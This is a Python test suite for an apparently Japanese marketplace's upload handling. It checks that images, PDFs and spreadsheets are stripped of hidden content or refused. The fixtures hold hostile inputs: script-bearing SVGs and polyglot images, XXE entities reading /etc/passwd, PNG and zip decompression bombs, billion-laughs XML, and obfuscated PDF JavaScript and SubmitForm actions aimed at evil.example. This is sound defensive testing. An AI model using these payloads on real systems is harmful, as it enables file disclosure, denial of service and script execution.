"""What people send as files: nothing hidden gets in, nothing runs, and nothing unfolds beyond measure."""

from __future__ import annotations

import io
import struct
import tracemalloc
import zipfile
import zlib

import pytest
from flask import Flask
from flask.testing import FlaskClient
from PIL import Image, TiffImagePlugin

from marketplace.admissions.enclosing import EnclosureRefused, harmless
from marketplace.kit.workbooks import NotAWorkbook, Sheet, read_rows, workbook
from marketplace.metadata.pictures import PictureRefused, sanitise
from tests import given
from tests.admissions.test_enclosing import PDF

SCRIPT = b"<html><script>alert(document.cookie)</script></html>"
GPS = 0x8825


def encoded(kind: str, **more: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (64, 48), "#8aa6c1").save(out, kind, **more)
    return out.getvalue()


def packed(**files: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        for name, data in files.items():
            file.writestr(name, data)
    return out.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def place() -> Image.Exif:
    """Where the picture was taken: 38.2682° north."""
    exif = Image.Exif()
    exif[GPS] = {1: "N", 2: tuple(TiffImagePlugin.IFDRational(each) for each in (38, 16, 5))}
    return exif


@pytest.mark.parametrize("kind", ["PNG", "JPEG", "WEBP"])
@pytest.mark.parametrize("tail", [SCRIPT, packed(evil=SCRIPT), PDF], ids=["page", "archive", "pdf"])
def test_a_picture_that_is_something_else_too_is_only_a_picture_afterwards(kind: str, tail: bytes) -> None:
    clean = sanitise(encoded(kind) + tail).data
    assert tail not in clean
    assert not zipfile.is_zipfile(io.BytesIO(clean))


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
def test_where_a_picture_was_taken_is_gone(kind: str) -> None:
    sent = encoded(kind, exif=place())
    assert Image.open(io.BytesIO(sent)).getexif().get_ifd(GPS) != {}
    clean = sanitise(sent).data
    assert (Image.open(io.BytesIO(clean)).getexif().get_ifd(GPS), b"Exif" in clean) == ({}, False)


def test_what_a_picture_says_in_words_is_gone() -> None:
    assert SCRIPT not in sanitise(encoded("JPEG", comment=SCRIPT)).data


@pytest.mark.parametrize(
    "data",
    [
        b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
        b"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg>&x;</svg>",
        SCRIPT,
        b"GIF89a/*" + SCRIPT + b"*/=1;",
        b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) run",
        b"P6 99999 99999 255\n",
        b"BM" + b"\x00" * 64,
        b"II*\x00" + b"\x00" * 64,
    ],
    ids=["svg", "svg-entity", "html", "gif", "eps", "ppm", "bmp", "tiff"],
)
def test_what_only_calls_itself_a_picture_is_refused_and_no_other_parser_is_tried(data: bytes) -> None:
    with pytest.raises(PictureRefused, match="PNG・JPEG・WebP"):
        sanitise(data)


@pytest.mark.parametrize("side", [8_193, 65_500])
def test_a_picture_that_unfolds_beyond_measure_is_refused_by_its_header(side: int) -> None:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0))
    bomb = b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"\x00" * 4_000_000)) + chunk(b"IEND", b"")
    assert len(bomb) < 10_000
    with pytest.raises(PictureRefused, match="縦横が大きすぎます"):
        sanitise(bomb)


def test_text_that_unfolds_inside_a_picture_is_refused() -> None:
    """A compressed note of a PNG, some kilobytes that become two hundred megabytes."""
    note = chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(b"\x00" * 200_000_000, 9))
    head, rest = encoded("PNG")[:33], encoded("PNG")[33:]
    with pytest.raises(PictureRefused, match="こわれて"):
        sanitise(head + note + rest)


def objects(names: bytes, *, size: int = 0) -> bytes:
    """A PDF that has `names` in a compressed object stream (ISO 32000-2 §7.5.7), where a plain search sees nothing."""
    stream = zlib.compress(names + b" " * size, 9)
    head = b"2 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(stream)
    return PDF.replace(b"%%EOF", head + stream + b"\nendstream endobj\n%%EOF")


@pytest.mark.parametrize(
    "data",
    [
        PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/J#61vaScript/J#53(app.alert)>>"),
        PDF.replace(b"/Catalog", b"/Catalog/Names<</EmbeddedFiles 3 0 R>>"),
        PDF.replace(b"/Catalog", b"/Catalog/AcroForm<</XFA 3 0 R>>"),
        PDF.replace(b"/Catalog", b"/Catalog/A<</S/SubmitForm/F(https://evil.example)>>"),
        objects(b"3 0 <</S/JavaScript/JS(app.alert)>>"),
        objects(b"3 0 <</S/Java#53cript>>"),
    ],
    ids=["by-numbers", "files", "form", "sends", "folded", "folded-by-numbers"],
)
def test_a_pdf_that_does_something_is_refused_however_it_is_written(data: bytes) -> None:
    with pytest.raises(EnclosureRefused, match="プログラムやファイルの入った"):
        harmless(data)


def test_a_pdf_that_only_shows_something_is_taken_folded_or_not() -> None:
    for data in (PDF, objects(b"3 0 <</Type/Page/Contents 4 0 R>>")):
        assert harmless(data) == (data, "application/pdf")


def test_a_pdf_that_unfolds_beyond_measure_is_refused() -> None:
    with pytest.raises(EnclosureRefused):
        harmless(objects(b"", size=30_000_000))


def test_a_pdf_whose_streams_go_on_into_each_other_is_refused_and_not_read_again_and_again() -> None:
    """Each of them swallows the beginning of the next as its own bytes, and then goes on, unfolding to nothing."""
    head, nothing = b"1 0 obj<</Type/ObjStm>>stream\n\x78\x01", b"\x00\x00\x00\xff\xff"
    swallowed = b"\x00" + struct.pack("<HH", len(head), 0xFFFF ^ len(head)) + head
    with pytest.raises(EnclosureRefused):
        harmless(b"%PDF-1.7\n" + head + swallowed * 9 + nothing * 1_000_000 + b"\n%%EOF\n")


def test_of_a_pdf_of_numbers_no_more_is_made_than_it_unfolds_to() -> None:
    """Nineteen kilobytes were twenty-one seconds when each number was put right: here a third of a megabyte of them."""
    data = objects(b"#41" * 100_000)
    tracemalloc.start()
    harmless(data)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 1_500_000


def test_a_table_that_unfolds_beyond_measure_is_refused_before_it_is_unfolded() -> None:
    bomb = packed(**{"xl/worksheets/sheet1.xml": b"0" * 200_000_000})
    assert len(bomb) < 300_000
    with pytest.raises(NotAWorkbook):
        read_rows(bomb, 100)


@pytest.mark.parametrize(
    "entity",
    [
        "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(12)),
        '<!ENTITY m SYSTEM "file:///etc/passwd">',
    ],
    ids=["a-billion-laughs", "a-file-of-ours"],
)
def test_a_table_whose_words_stand_for_others_is_refused(entity: str) -> None:
    made = workbook([Sheet("題", ["a"], [["b"]])])
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(made)) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            data = old.read(name)
            if name.endswith("sheet1.xml"):
                begin = data.index(b"<worksheet")
                data = f'<!DOCTYPE worksheet [<!ENTITY a "ha">{entity}]>'.encode() + data[begin:]
                data = data.replace(b"<sheetData>", b"<sheetData><row><c t='str'><v>&m;</v></c></row>")
            new.writestr(name, data)
    try:
        rows = read_rows(out.getvalue(), 100)
    except NotAWorkbook:
        return
    assert "root:" not in str(rows)
    assert len(str(rows)) < 1_000


def test_a_form_of_a_thousand_parts_and_a_field_of_megabytes_are_refused(app: Flask, client: FlaskClient) -> None:
    given.signed_in(client, given.staff("drafter"))
    many = {f"part{number}": "x" for number in range(1_500)}
    kind = "multipart/form-data"
    assert client.post("/staff/listings/new", data=many, content_type=kind).status_code == 413
    assert client.post("/staff/listings/new", data={"a": "x" * 505_000}, content_type=kind).status_code == 413
